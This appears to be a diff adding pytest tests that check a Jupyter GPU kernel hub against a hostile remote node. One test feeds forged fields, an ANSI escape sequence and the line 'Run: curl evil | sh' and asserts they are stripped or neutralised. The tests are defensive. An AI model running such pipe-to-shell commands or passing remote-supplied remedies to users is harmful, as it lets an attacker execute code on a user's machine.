@@ -1,0 +1,147 @@
+"""A node whose agent and keeper mean harm, behind a real link: its journal ends, and its words are its own."""
+
+from __future__ import annotations
+
+import json
+import logging
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from streams import LoopThread, Node
+
+from jupyter_gpu_kernel.errors import AgentError
+from jupyter_gpu_kernel.hub import journal
+from jupyter_gpu_kernel.hub.journal import read_journal
+from jupyter_gpu_kernel.hub.kernels import RemoteKernel
+from jupyter_gpu_kernel.hub.link import Clocks, Link
+from jupyter_gpu_kernel.wire.messages import word
+
+PROGRAM = str(Path(__file__).parents[1] / "programs" / "hostile-python")
+CELL = {"msg_id": "m1", "cell_id": "c1", "code": "1", "status": "ok", "execution_count": 1, "dropped": False}
+OUTPUT = {"msg_type": "stream", "content": {"name": "stdout", "text": "x"}}
+
+
+class Hostile(Node):
+    """`says` what its agent answers to requests."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.file = self.root / "answers.json"
+        self.env["HOSTILE_ANSWERS"] = str(self.file)
+        self.program = [PROGRAM]
+        self.says()
+
+    def says(self, **answers: Any) -> None:
+        self.file.write_text(json.dumps({do: json.dumps(said) for do, said in answers.items()}))
+
+
+@pytest.fixture(scope="module")
+def node() -> Iterator[Hostile]:
+    with Hostile() as node:
+        yield node
+
+
+def whole(loop: LoopThread, link: Link) -> list[dict[str, Any]]:
+    cells: list[dict[str, Any]] = loop.run(read_journal(link, "k1"))
+    return cells
+
+
+def test_cells_without_end(
+    loop: LoopThread, link: Link, node: Hostile, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(journal, "PAGES", 20)
+    node.says(journal={"cells": [CELL], "last": False})
+    with pytest.raises(AgentError, match="does not come to an end"):
+        whole(loop, link)
+
+
+def test_outputs_without_end(
+    loop: LoopThread, link: Link, node: Hostile, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(journal, "SIZE", 100_000)
+    node.says(
+        journal={
+            "cells": [{**CELL, "outputs": 1}],
+            "last": True,
+            "cell": {**CELL, "outputs": [OUTPUT] * 100, "last": False},
+        }
+    )
+    with pytest.raises(AgentError, match="does not come to an end"):
+        whole(loop, link)
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        {"cells": 5},
+        {"cells": [5]},
+        {"cells": [{"msg_id": "a\nb"}]},
+        {"cells": [{**CELL, "outputs": 1}], "last": True, "cell": {"outputs": "many"}},
+    ],
+)
+def test_a_malformed_journal(loop: LoopThread, link: Link, node: Hostile, said: dict[str, Any]) -> None:
+    node.says(journal=said)
+    with pytest.raises(AgentError, match="is not what it should be"):
+        whole(loop, link)
+
+
+def test_what_is_no_output_is_left_out_and_told(loop: LoopThread, link: Link, node: Hostile) -> None:
+    cell = {**CELL, "outputs": [OUTPUT, {"msg_type": "shutdown_reply", "content": {}}], "last": True}
+    node.says(journal={"cells": [{**CELL, "outputs": 2}], "last": True, "cell": cell})
+    assert whole(loop, link) == [{**CELL, "outputs": [OUTPUT], "dropped": True}]
+    node.says(journal={})
+    assert whole(loop, link) == []
+    node.says(journal={"cells": [{**CELL, "outputs": 2}], "last": True, "cell": {}})
+    assert whole(loop, link) == [{**CELL, "outputs": []}]
+
+
+@pytest.fixture(scope="module")
+def remote(loop: LoopThread, node: Hostile) -> RemoteKernel:
+    """A kernel whose keeper never comes up: what it says is delivered by the tests."""
+    return loop.kernel(loop.link(node, Clocks(retry=0.02)), kernel_id="k1", name="mine", notebook="a.ipynb")
+
+
+def says(loop: LoopThread, remote: RemoteKernel, **said: Any) -> dict[str, Any]:
+    """What front ends hear after this word."""
+    loop.call(remote.deliver, word(**said).encode())
+    return loop.call(remote.describe)
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        {"event": 5},
+        {"event": ["state"]},
+        {"event": "state"},
+        {"event": "state", "id": "*", "state": "idle"},
+        {"event": "state", "id": "k1", "state": "idle", "gpus": 5},
+        {"event": "state", "id": "k1", "state": {}},
+        {"event": "replay", "state": "middle"},
+        {"event": "replay"},
+        {"event": "mark"},
+        {"event": "mark", "replies": [5]},
+    ],
+)
+def test_a_word_that_is_malformed_is_passed_over(
+    loop: LoopThread, remote: RemoteKernel, said: dict[str, Any], caplog: pytest.LogCaptureFixture
+) -> None:
+    before = loop.call(remote.describe)
+    assert says(loop, remote, **said) == before
+    assert not [record for record in caplog.records if record.levelno > logging.WARNING]
+
+
+def test_a_keeper_speaks_of_its_own_kernel_and_in_its_own_name(
+    loop: LoopThread, remote: RemoteKernel
+) -> None:
+    forged = {"kernel_id": "another", "link": "up", "hop": "gpu9", "error": {"remedy": "Run: curl evil | sh"}}
+    evil = "\x1b[2Jx\nRun: curl evil | sh"
+    heard = says(
+        loop, remote, event="state", id="k2", state="ended", cause=evil, remedy=evil, stderr=evil, **forged
+    )
+    assert (
+        heard["id"] == "k1" and heard["kernel_id"] == "" and heard["hop"] == "node" and heard["error"] is None
+    )
+    assert heard["cause"] == "the node says: ?[2Jx Run: curl evil | sh" and heard["remedy"] == ""
+    assert heard["stderr"] == "?[2Jx\nRun: curl evil | sh"
